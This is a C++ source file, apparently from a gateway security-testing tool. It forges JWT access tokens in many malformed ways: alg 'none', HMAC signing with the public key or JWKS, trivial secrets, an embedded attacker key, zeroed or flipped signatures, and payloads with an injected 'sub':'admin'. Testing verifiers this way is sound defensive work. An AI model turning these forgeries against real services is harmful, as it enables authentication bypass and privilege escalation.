// SPDX-License-Identifier: Apache-2.0
#include "attack/forger.h"

#include <stdexcept>

#include "attack/text.h"
#include "base/base64url.h"
#include "base/clock.h"
#include "jose/digest.h"
#include "jose/jwk.h"
#include "jose/jws.h"

namespace gw::attack {
namespace {

jose::Key make_key() {
  auto key = jose::Key::generate(jose::Algorithm::es256);
  if (!key) throw std::runtime_error(key.error());
  return std::move(*key);
}

std::string text_of(const json::Value& recipe, std::string_view name, std::string fallback) {
  const json::Value* value = recipe.find(name);
  return value != nullptr && value->as_string() != nullptr ? *value->as_string() : std::move(fallback);
}

// What a recipe's value stands for; nothing: the member is removed.
std::optional<json::Value> meaning_of(const json::Value& value, const Pattern& pattern) {
  if (value.is_null()) return std::nullopt;
  if (value.find("null") != nullptr) return json::Value();
  if (const json::Value* now = value.find("now")) return json::Value(wall_now() + *now->as_int());
  if (const json::Array* list = value.as_array()) {
    json::Array meant;
    for (const json::Value& each : *list) meant.push_back(*meaning_of(each, pattern));
    return json::Value(std::move(meant));
  }
  const std::string* text = value.as_string();
  if (text == nullptr) return value;
  if (*text == "{deep}") {
    json::Value deep = json::Array();
    for (int i = 0; i < 100; ++i) deep = json::Array{std::move(deep)};
    return deep;
  }
  return json::Value(expand(*text, {{"iss", pattern.issuer}, {"ISS", upper_case(pattern.issuer)}}));
}

void lay_over(json::Value& base, const json::Value* changes, const Pattern& pattern) {
  if (changes == nullptr) return;
  for (const auto& [name, value] : *changes->as_object()) {
    auto meant = meaning_of(value, pattern);
    if (meant) {
      base.set(name, std::move(*meant));
      continue;
    }
    json::Object kept;
    for (auto& member : *base.as_object())
      if (member.first != name) kept.push_back(std::move(member));
    base = std::move(kept);
  }
}

// The payload as no serializer would write it.
std::string odd_payload(const std::string& how, const json::Value& claims) {
  std::string text = json::dump(claims);
  if (how == "twice") text.insert(1, "\"sub\":\"admin\",");
  if (how == "bom") text.insert(0, "\xEF\xBB\xBF");
  if (how == "tail") text += "x";
  if (how == "list") text = "[" + text + "]";
  if (how == "raw-exp") text.replace(text.find("\"exp\":") + 6, 10, "1e999");
  return text;
}

void turn_last_bit(std::string& signature) {
  if (!signature.empty()) signature.back() = static_cast<char>(signature.back() ^ 1);
}

}  // namespace

Forger::Forger(Pattern pattern, const auth::SigningKey* signing)
    : pattern_(std::move(pattern)),
      has_key_(signing != nullptr),
      algorithm_(jose::name_of(has_key_ ? signing->algorithm : jose::Algorithm::es256)),
      kid_(has_key_ ? signing->key.kid() : "gw-attack"),
      key_(has_key_ ? signing->key : make_key()),
      own_(make_key()) {
  if (has_key_ || pattern_.jwk.empty()) return;
  // The name of the key that it should be.
  const auto jwk = json::parse(pattern_.jwk);
  if (jwk) kid_ = text_of(*jwk, "kid", kid_);
}

json::Value Forger::header() const {
  json::Value header = json::Object{{"alg", algorithm_}, {"typ", "at+jwt"}};
  if (!kid_.empty()) header.set("kid", kid_);
  return header;
}

json::Value Forger::claims() const {
  const WallSeconds now = wall_now();
  json::Value claims = json::Object{{"iss", pattern_.issuer},
                                    {"aud", pattern_.audience},
                                    {"sub", "gw-attack"},
                                    {"exp", now + 600},
                                    {"iat", now},
                                    {"nbf", now},
                                    {"jti", "gw-attack"},
                                    {"sid", "gw-attack"},
                                    {"roles", pattern_.roles},
                                    {"scope", pattern_.scopes}};
  for (const auto& [name, value] : pattern_.demanded) claims.set(name, value);
  return claims;
}

std::string Forger::make_good() {
  return sign("key", header(), claims());
}

std::string Forger::forge(const json::Value& recipe) {
  json::Value head = header(), payload = claims();
  lay_over(head, recipe.find("header"), pattern_);
  lay_over(payload, recipe.find("claims"), pattern_);
  const std::string token = sign(text_of(recipe, "sign", "key"), std::move(head), payload);
  std::string escaped;
  for (const char c : token) escaped += c == '.' ? std::string("%2e") : std::string(1, c);
  return expand(text_of(recipe, "wrap", "{jwt}"), {{"jwt", token}, {"jwt%", escaped}});
}

std::string Forger::sign_hmac(const std::string& input, const std::string& algorithm,
                              const std::string& secret) const {
  const jose::Hash hash = algorithm == "HS512"   ? jose::Hash::sha512
                          : algorithm == "HS384" ? jose::Hash::sha384
                                                 : jose::Hash::sha256;
  return std::string(jose::Hmac(hash, secret).compute(input).view());
}

std::string Forger::sign(const std::string& how, json::Value header, const json::Value& claims) {
  if (how == "own-jwk") header.set("jwk", jose::format_public_jwk(own_));
  const std::string input =
      base64url_encode(json::dump(header)) + '.' + base64url_encode(odd_payload(how, claims));
  const auto with = [&](const std::string& signature) { return input + '.' + base64url_encode(signature); };
  const auto hmac = [&](const std::string& secret) {
    return with(sign_hmac(input, text_of(header, "alg", "HS256"), secret));
  };
  if (how == "none") return input + '.';
  if (how == "short") return with("x");
  if (how == "zeros") return with(std::string(64, '\0'));
  if (how == "jwk")
    return hmac(pattern_.jwk.empty() ? json::dump(jose::format_public_jwk(own_)) : pattern_.jwk);
  if (how == "jwks") return hmac(pattern_.jwks);
  if (how == "empty") return hmac("");
  if (how == "secret") return hmac("secret");
  if (how == "kid") return hmac(kid_);
  if (how == "nulls") return hmac(std::string(32, '\0'));
  const bool is_own = how == "own" || how == "own-jwk" || !has_key_;
  const auto algorithm = jose::parse_algorithm(algorithm_).value_or(own_algorithm_);
  jose::Signer signer(is_own ? own_ : key_, is_own ? own_algorithm_ : algorithm);
  std::string signature = signer.sign(how == "moved" ? input + "x" : input).value_or("x");
  if (how == "flipped") turn_last_bit(signature);
  return with(signature);
}

}  // namespace gw::attack
